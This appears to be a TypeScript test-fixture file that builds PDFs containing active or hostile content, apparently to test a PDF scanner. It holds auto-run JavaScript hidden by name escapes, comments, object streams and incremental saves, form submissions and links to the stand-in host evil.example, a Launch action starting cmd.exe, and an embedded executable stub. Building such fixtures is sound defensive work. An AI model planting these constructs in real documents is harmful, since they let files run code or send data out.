import { deflateSync } from 'node:zlib'

type Parts = {
  /** More words of the catalog, and of the page. */
  catalog?: string
  page?: string
  /** Objects from number 6 on. */
  objects?: string
  trailer?: string
}

const words = 'BT /F1 60 Tf 60 400 Td (Waybill 42) Tj ET\n0 0 200 100 re f\n'

/** A PDF of one page that says something, with whatever else is asked for; its table of objects is right. */
export function textPdf({ catalog = '', page = '', objects = '', trailer = '' }: Parts = {}): Buffer {
  const body = [
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`,
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${page}\n`,
    '/Resources << /Font << /F1 5 0 R >> >> >>\nendobj\n',
    `4 0 obj\n<< /Length ${words.length} >>\nstream\n${words}endstream\nendobj\n`,
    '5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n',
    objects,
  ].join('')
  const whole = `%PDF-1.7\n${body}`
  const begins = [...whole.matchAll(/^(\d+) 0 obj$/gm)].map(
    ({ 1: id, index }) => [Number(id), index] as const,
  )
  const rows = begins.map(([id, at]) => `${id} 1\n${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const end = `trailer\n<< /Root 1 0 R /Size 40 ${trailer} >>\nstartxref\n${whole.length}\n%%EOF\n`
  return Buffer.from(`${whole}xref\n0 1\n0000000000 65535 f \n${rows}${end}`, 'latin1')
}

/** Objects packed in a stream; `type` is how the stream calls itself, if it does. */
function packedAs(type: string, inside: string): string {
  const stream = deflateSync(Buffer.from(`9 0 ${inside}`, 'latin1')).toString('latin1')
  return `8 0 obj\n<< ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n${stream}\nendstream\nendobj\n`
}

const action = (words: string) => textPdf({ catalog: `/OpenAction << ${words} >>` })
const script = '/S /JavaScript /JS (app.alert(1))'

/** What a later save of the same file adds: a catalog that runs something. */
function savedAgain(): Buffer {
  const first = textPdf().toString('latin1')
  const added = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> >>\nendobj\n`
  const xref = `xref\n1 1\n${String(first.length).padStart(10, '0')} 00000 n \n`
  const before = /startxref\n(\d+)/.exec(first)?.[1]
  const end = `trailer\n<< /Root 1 0 R /Size 40 /Prev ${before} >>\nstartxref\n${first.length + added.length}\n%%EOF\n`
  return Buffer.from(first + added + xref + end, 'latin1')
}

/** The same page by a stream of cross-references, with packed objects, one of which runs something. */
function byXrefStream(): Buffer {
  const font = '5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n'
  const content = `4 0 obj\n<< /Length ${words.length} >>\nstream\n${words}endstream\nendobj\n`
  const inner = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  ]
  let at = 0
  const offsets = inner
    .map((one, index) => `${index + 1} ${((at += one.length + 1)) - one.length - 1}`)
    .join(' ')
  const packed = deflateSync(Buffer.from(`${offsets} ${inner.join(' ')}`, 'latin1')).toString('latin1')
  // the type of the stream with a comment in its middle, as a reader skips it
  const stream = `6 0 obj\n<< /Type%c\n/ObjStm /N 3 /First ${offsets.length + 1} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`
  const head = '%PDF-1.7\n'
  const places = [head.length, head.length + content.length, head.length + content.length + font.length]
  const start = head.length + content.length + font.length + stream.length
  const row = (kind: number, first: number, second: number) => [kind, first >> 8, first & 255, second]
  const table = Buffer.from([
    ...row(0, 0, 255),
    ...[0, 1, 2].flatMap((index) => row(2, 6, index)),
    ...places.flatMap((place) => row(1, place, 0)),
    ...row(1, start, 0),
  ])
  const rows = `7 0 obj\n<< /Type /XRef /W [1 2 1] /Size 8 /Root 1 0 R /Length ${table.length} >>\nstream\n${table.toString('latin1')}\nendstream\nendobj\n`
  return Buffer.from(`${head}${content}${font}${stream}${rows}startxref\n${start}\n%%EOF\n`, 'latin1')
}

const link = (act: string) =>
  textPdf({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /Border [0 0 0] /A << ${act} >> >>]`,
  })
const attached = '6 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>\nendobj\n'
const carried = '7 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ00\nendstream\nendobj\n'

/** PDFs that act, reach out or carry something, by how they do it; each of them shows its page. */
export const actingPdfs: Record<string, Buffer> = {
  'JavaScript when it opens': action(script),
  'JavaScript by its name': textPdf({
    catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
  }),
  'JavaScript as the page shows': textPdf({ page: `/AA << /O << ${script} >> >>` }),
  'JavaScript as it is printed': textPdf({ catalog: `/AA << /WP << ${script} >> >>` }),
  'JavaScript at a press': link(script),
  'JavaScript in a name by codes': action(script.replaceAll('JS', 'J#53').replace('Java', 'J#61va')),
  'JavaScript behind a comment': action('/S%c\n/JavaScript%c\n/JS%c\n(app.alert(1))'),
  'JavaScript in a stream of objects': textPdf({
    catalog: '/OpenAction 9 0 R',
    objects: packedAs('/Type /ObjStm', `<< ${script} >>`),
  }),
  'JavaScript in a stream of objects whose type has a comment in it': textPdf({
    catalog: '/OpenAction 9 0 R',
    objects: packedAs('/Type%c\n/ObjStm', `<< ${script} >>`),
  }),
  'JavaScript in a stream of objects without a type': textPdf({
    catalog: '/OpenAction 9 0 R',
    objects: packedAs('', `<< ${script} >>`),
  }),
  'JavaScript in all that is packed, by a stream of cross-references': byXrefStream(),
  'JavaScript that a later save adds': savedAgain(),
  'a form that is sent': link('/S /SubmitForm /F (http://evil.example/) /Flags 4'),
  'a form that sends itself': action('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>'),
  'a program that is started': action('/S /Launch /F (cmd.exe)'),
  'another file that is opened': action('/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'),
  'a file in it that is opened': action('/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]'),
  'an address': link('/S /URI /URI (http://evil.example/)'),
  'an address when it opens': action('/S /URI /URI (http://evil.example/)'),
  'data that is brought in': action('/S /ImportData /F (a.fdf)'),
  'a file that it carries': textPdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
    objects: attached + carried,
  }),
  'a file at a place of the page': textPdf({
    page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]',
    objects: attached + carried,
  }),
  'a form of XFA': textPdf({
    catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
    objects: '6 0 obj\n<< /Length 11 >>\nstream\n<xdp></xdp>\nendstream\nendobj\n',
  }),
  'a film': textPdf({
    page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>]',
  }),
  'a table of objects that is wrong': Buffer.from(
    action(script)
      .toString('latin1')
      .replace(/\d{10} 00000 n/g, '0000000001 00000 n'),
    'latin1',
  ),
}

/** A PDF that opens by a password only, which nobody knows. */
export const lockedPdf = textPdf({
  objects: `6 0 obj\n<< /Filter /Standard /V 1 /R 2 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> /P -4 >>\nendobj\n`,
  trailer: '/Encrypt 6 0 R /ID [<00> <00>]',
})
